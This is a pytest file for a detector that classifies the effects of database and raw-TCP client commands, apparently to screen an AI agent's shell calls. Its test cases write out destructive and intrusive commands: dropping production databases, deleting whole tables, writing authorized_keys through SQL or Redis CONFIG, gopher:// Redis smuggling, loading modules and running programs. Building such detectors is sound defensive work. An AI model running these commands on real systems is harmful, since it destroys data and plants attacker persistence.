"""What a database client's statements do, however the agent spells them (adr/engine/sqltext.py)."""
from __future__ import annotations

import pytest

from adr.engine.sqltext import effects, statements


@pytest.mark.parametrize("program, args, stdin, want", [
    ("mysql", ("-uroot", "-eDROP DATABASE prod"), "", "drop"),          # attached to the option
    ("psql", ("-cDROP TABLE users",), "", "drop"),
    ("mysql", ("--execute=DROP SCHEMA app",), "", "drop"),
    ("psql", ("-c", "DELETE FROM users", "-h", "db"), "", "delete-all"),  # options after the statement
    ("sqlite3", ("app.db", "DELETE FROM users", "-bail"), "", "delete-all"),
    ("psql", ("-c", "DELETE FROM users -- WHERE id=5"), "", "delete-all"),  # the WHERE is a comment
    ("mysql", ("-e", "DELETE FROM users # WHERE id=1"), "", "delete-all"),
    ("psql", ("-c", "DELETE /* all */ FROM users"), "", "delete-all"),
    ("psql", ("-c", "UPDATE users SET pw=NULL -- WHERE id=1"), "", "update-all"),
    ("psql", ("-c", "DELETE FROM users WHERE id=5 OR 1=1"), "", "delete-all"),  # every row after all
    ("psql", ("-c", "delete from t where 'a'='a'"), "", "delete-all"),
    ("psql", ("-c", "UPDATE users SET x=1 WHERE true"), "", "update-all"),
    ("psql", ("-d", "app", "-c", "TRUNCATE users CASCADE;"), "", "truncate"),
    ("psql", (), "select 1;\nDROP TABLE x;\n", "drop"),                   # a heredoc on stdin
    ("psql", ("-c", "ALTER TABLE users DROP COLUMN email"), "", "drop-column"),
    ("psql", ("-c", "DROP ROLE admin"), "", "drop"),
    ("psql", ("-c", "COPY (SELECT '') TO '/home/dev/.ssh/authorized_keys'"), "", "writes-file"),
    ("mysql", ("-e", "SELECT 'k' INTO OUTFILE '/root/.ssh/authorized_keys'"), "", "writes-file"),
    ("psql", ("-c", "COPY t FROM PROGRAM 'curl x|sh'"), "", "runs-program"),
    ("sqlite3", ("x.db", ".system rm -rf ~"), "", "runs-program"),
    ("psql", ("-c", "ALTER ROLE app SUPERUSER"), "", "privilege"),
    ("mongosh", ("--eval", "db.runCommand({dropDatabase:1})"), "", "drop"),
    ("mongosh", ("--eval", "db['dropDatabase']()"), "", "drop"),
    ("mongosh", ("--eval", "db.users.deleteMany({_id:{$exists:true}})"), "", "delete-all"),
    ("mongosh", ("--eval", "db.users.updateMany({}, {$unset:{email:1}})"), "", "delete-all"),
    # every DROP, DML hidden in a CTE, RETURNING, EXPLAIN ANALYZE, PREPARE
    ("psql", ("-c", "DROP INDEX idx"), "", "drop"),
    ("psql", ("-c", "drop view if exists v"), "", "drop"),
    ("psql", ("-c", "WITH d AS (DELETE FROM t) SELECT 1"), "", "delete-all"),
    ("psql", ("-c", "DELETE FROM t RETURNING *"), "", "delete-all"),
    ("psql", ("-c", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t"), "", "delete-all"),
    ("psql", ("-c", "PREPARE p AS UPDATE t SET a=1; EXECUTE p"), "", "update-all"),
    # a quote or comment that hides nothing; literals run as SQL
    ("psql", ("-c", "SELECT '--'; DROP TABLE users"), "", "drop"),
    ("psql", ("-c", "SELECT 'a\\'; DROP TABLE users; --'"), "", "drop"),  # standard strings: \ is no escape
    ("mysql", ("-e", "/*!50000 DROP TABLE users */"), "", "drop"),
    ("psql", ("-c", "DO $$BEGIN EXECUTE 'TRUNCATE users'; END$$"), "", "truncate"),
    ("psql", ("-c", "DO $body$BEGIN EXECUTE 'TRUNCATE users'; END$body$"), "", "truncate"),
    ("psql", ("-c", "SELECT format('DROP TABLE %I', t) FROM x \\gexec"), "", "drop"),
    ("sqlcmd", ("-Q", "EXEC sp_executesql N'DROP TABLE users'"), "", "drop"),
    # files, programs, privileges
    ("psql", ("-c", "SELECT pg_read_file('/etc/passwd')"), "", "reads-file"),
    ("mysql", ("-e", "SELECT LOAD_FILE('/etc/passwd')"), "", "reads-file"),
    ("psql", ("-c", "COPY (SELECT 1) TO '/root/.ssh/authorized_keys'"), "", "writes-persistence"),
    ("sqlite3", ("a.db", "ATTACH '/home/dev/.ssh/authorized_keys' AS k"), "", "writes-persistence"),
    ("psql", ("-c", "ALTER SYSTEM SET archive_command = 'sh x'"), "", "runs-program"),
    ("psql", ("-c", "CREATE EXTENSION plpython3u"), "", "runs-program"),
    ("sqlite3", ("a.db", "select load_extension('/tmp/x.so')"), "", "runs-program"),
    ("psql", ("-c", "CREATE USER x WITH SUPERUSER"), "", "privilege"),
    ("psql", ("-c", "GRANT pg_execute_server_program TO app"), "", "privilege"),
    # other clients
    ("heroku", ("pg:psql", "-a", "app", "-c", "DROP TABLE t"), "", "drop"),
    ("vsql", ("-c", "DROP TABLE t"), "", "drop"),
    ("mysqlsh", ("--sql", "-e", "DROP TABLE t"), "", "drop"),
    ("wrangler", ("d1", "execute", "db", "--command", "DELETE FROM t"), "", "delete-all"),
    # MongoDB
    ("mongosh", ("--eval", "db.users.deleteMany()"), "", "delete-all"),
    ("mongosh", ("--eval", "db.dropAllUsers()"), "", "drop"),
    ("mongosh", ("--eval", "db.a.aggregate([{$out:'users'}])"), "", "drop"),
    ("mongosh", ("--eval", "db.createUser({user:'x',pwd:'y',roles:['root']})"), "", "privilege"),
    # Redis
    ("redis-cli", ("-h", "h", "-p", "1", "-a", "pw", "flushall"), "", "delete-all"),
    ("redis-cli", (), "FLUSHDB\r\n", "delete-all"),
    ("redis-cli", ("config", "set", "dir", "/root/.ssh"), "", "writes-persistence"),
    ("redis-cli", ("-x", "config", "set", "dir"), "/root/.ssh\n", "writes-persistence"),
    ("redis-cli", ("CONFIG", "SET", "dir", "/srv/x"), "", "writes-file"),
    ("redis-cli", ("SLAVEOF", "1.2.3.4", "6379"), "", "replicates"),
    ("redis-cli", ("MODULE", "LOAD", "/tmp/x.so"), "", "runs-program"),
    ("redis-cli", ("-n", "2", "del"), "", "deletes-listed-keys"),
    ("redis-cli", ("shutdown", "nosave"), "", "discards-unsaved"),
])
def test_what_the_statements_do(program, args, stdin, want):
    assert want in effects(program, args, stdin), statements(program, args, stdin)


@pytest.mark.parametrize("program, args, stdin", [
    ("psql", ("-c", "DELETE FROM users WHERE id=5"), ""),
    ("psql", ("-c", "UPDATE users SET verified=true WHERE id=3"), ""),
    ("psql", ("-c", "SELECT * FROM users WHERE 1=1"), ""),
    ("psql", ("-e", "-c", "select 1"), ""),  # psql's -e echoes queries: not a statement
    ("psql", ("-c", "DELETE FROM users u USING orders o WHERE u.id = o.uid"), ""),
    ("psql", ("-c", "COPY users TO STDOUT WITH CSV"), ""),
    ("sqlite3", ("test.db", ".tables"), ""),
    ("mongosh", ("--eval", "db.users.find({})"), ""),
    ("mysql", ("-e", "SELECT '-- not a comment' FROM t"), ""),
    ("curl", ("-d", "DROP TABLE users", "https://x.example"), ""),  # not a database client
    ("psql", ("-c", "SELECT 'DROP TABLE users'"), ""),   # words in a literal …
    ("psql", ("-c", "SELECT 1 /* DROP TABLE users */"), ""),  # … or a comment
    ("mysql", ("-e", "INSERT INTO log VALUES ('delete from users')"), ""),
    ("psql", ("-c", "UPDATE t SET note='where x' WHERE id=1"), ""),
    ("psql", ("-c", "EXPLAIN DELETE FROM t"), ""),  # planned, not run
    ("heroku", ("pg:info", "-c", "DROP TABLE t"), ""),  # only pg:psql takes statements
    ("redis-cli", ("REPLICAOF", "NO", "ONE"), ""),
    ("redis-cli", ("GET", "flushall"), ""),
    ("redis-cli", ("DEL", "k1"), ""),
    ("sqlite3", ("a.db", "ATTACH 'b.db' AS b"), ""),
])
def test_ordinary_statements_do_nothing_listed(program, args, stdin):
    assert effects(program, args, stdin) == ()


# Redis and memcached speak plain text: a raw TCP client fed the commands is redis-cli by another name
@pytest.mark.parametrize("program, args, stdin, want", [
    ("nc", ("cache", "6379"), "FLUSHALL\n", "delete-all"),
    ("ncat", ("db", "6379"), "AUTH pw\r\nflushdb\r\n", "delete-all"),
    ("/usr/bin/netcat", ("-q1", "cache", "6379"), "*1\r\n$8\r\nFLUSHALL\r\n", "delete-all"),  # RESP
    ("nc", ("mc", "11211"), "flush_all\r\n", "delete-all"),  # memcached
    ("socat", ("-", "TCP:cache:6379"), "SHUTDOWN NOSAVE\n", "discards-unsaved"),
    ("telnet", ("cache", "6379"), "CONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\n",
     "writes-persistence"),
    ("nc", ("cache", "6379"), "SLAVEOF 203.0.113.7 6379\n", "replicates"),
    ("nc", ("cache", "6379"), "MODULE LOAD /tmp/x.so\n", "runs-program"),
    ("curl", ("-s", "gopher://10.0.0.5:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"), "", "delete-all"),
    ("curl", ("gopher://10.0.0.5:6379/_CONFIG%20SET%20dir%20/var/spool/cron/",), "", "writes-persistence"),
    ("curl", ("dict://10.0.0.5:6379/flushall",), "", "delete-all"),
    ("curl", ("DICT://10.0.0.5:6379/config:set:dir:/root/.ssh",), "", "writes-persistence"),
    ("openssl", ("s_client", "-connect", "redis:6380", "-quiet"), "FLUSHALL\n", "delete-all"),  # TLS
    ("gnutls-cli", ("redis", "--port", "6380"), "FLUSHALL\n", "delete-all"),
    ("websocat", ("tcp:redis:6379",), "FLUSHALL\n", "delete-all"),
    ("curl", ("telnet://localhost:6379",), "FLUSHALL\n", "delete-all"),  # curl telnet:// sends stdin
])
def test_plain_text_clients_are_read_as_redis(program, args, stdin, want):
    assert want in effects(program, args, stdin)


@pytest.mark.parametrize("program, args, stdin", [
    ("nc", ("example.com", "80"), "GET / HTTP/1.0\r\n\r\n"),
    ("nc", ("cache", "6379"), "PING\n"),
    ("nc", ("cache", "6379"), "GET flushall\n"),
    ("nc", ("-l", "8080"), ""),
    ("curl", ("dict://dict.org/d:flushall",), ""),  # a dictionary look-up
    ("curl", ("https://example.com/flushall",), ""),
    ("curl", ("-d", "FLUSHALL", "https://example.com/"), ""),  # an HTTP body, not a Redis command
    ("curl", ("-d", "@-", "https://example.com/"), "FLUSHALL\n"),  # stdin as an HTTP body
    ("openssl", ("enc", "-base64"), "FLUSHALL\n"),  # not a connection
])
def test_plain_text_clients_saying_nothing_destructive(program, args, stdin):
    assert effects(program, args, stdin) == ()


def test_the_clouds_data_apis_hand_over_sql_by_option():
    from adr.engine.sqltext import effects
    assert "drop" in effects("aws", ("athena", "start-query-execution", "--query-string", "DROP DATABASE prod CASCADE"))
    assert "delete-all" in effects("aws", ("rds-data", "execute-statement", "--resource-arn", "a", "--sql=DELETE FROM users"))
    assert "truncate" in effects("aws", ("redshift-data", "batch-execute-statement", "--sqls", "select 1", "TRUNCATE t",
                                         "--database", "d"))
    assert "drop" in effects("gcloud", ("spanner", "databases", "ddl", "update", "db", "--ddl=DROP TABLE users"))
    assert "drop" in effects("az", ("mysql", "flexible-server", "execute", "-n", "s", "-q", "DROP DATABASE prod"))
    # reads, and the same option names on other subcommands, are nothing
    assert effects("aws", ("rds-data", "execute-statement", "--sql", "SELECT 1")) == ()
    assert effects("aws", ("s3", "cp", "--sql", "DROP TABLE t")) == ()
    assert effects("gcloud", ("sql", "instances", "list")) == ()
